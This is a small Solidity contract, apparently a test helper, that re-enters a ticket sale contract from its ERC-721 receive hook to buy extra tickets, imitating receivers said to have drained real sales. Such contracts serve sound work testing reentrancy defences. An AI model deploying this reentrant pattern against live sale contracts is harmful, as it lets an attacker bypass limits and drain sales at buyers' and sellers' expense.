// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ITicket} from "../interfaces/ITicket.sol";

/// @title Buys one more ticket from within ERC-721's hook, as receivers did that drained real sales
contract ReentrantReceiver {
    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        ITicket ticket = ITicket(msg.sender);
        uint256 price = ticket.getPriceForQuantity(1);
        ticket.buyTicket{value: price}(address(this), 1);
        return this.onERC721Received.selector;
    }

    receive() external payable {}
}
